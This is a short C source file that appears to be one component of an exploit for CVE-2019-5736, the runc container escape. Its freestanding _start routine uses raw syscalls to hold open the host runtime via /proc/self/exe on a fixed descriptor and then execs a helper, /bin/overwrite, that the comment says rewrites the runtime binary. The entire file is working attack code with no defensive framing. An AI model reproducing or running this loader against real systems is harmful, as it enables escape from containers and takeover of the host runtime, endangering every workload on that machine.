/*
 * The loader of an evil image (CVE-2019-5736): where the container's program is /proc/self/exe,
 * the kernel loads the runtime once more, inside of the container, together with this. It keeps the
 * file of the runtime open and becomes /bin/overwrite, which writes to it as soon as nobody
 * executes it. No library, since no loader has been here.
 */
#include <asm/unistd.h>

static long call(long number, const void *a, const void *b, const void *c)
{
    long result;

    __asm__ volatile("syscall"
                     : "=a"(result)
                     : "a"(number), "D"(a), "S"(b), "d"(c)
                     : "rcx", "r11", "memory");
    return result;
}

__attribute__((force_align_arg_pointer)) void _start(void);

void _start(void)
{
    static const char *const argv[] = { "/bin/overwrite", (void *)0 };
    static const char *const envp[] = { "PATH=/bin", (void *)0 };

    /* O_PATH; number 20, which nobody else has. */
    (void)call(__NR_dup2, (void *)call(__NR_open, "/proc/self/exe", (void *)010000000, (void *)0),
               (void *)20, (void *)0);
    (void)call(__NR_execve, argv[0], argv, envp);
    (void)call(__NR_exit, (void *)1, (void *)0, (void *)0);
    for (;;) {
    }
}
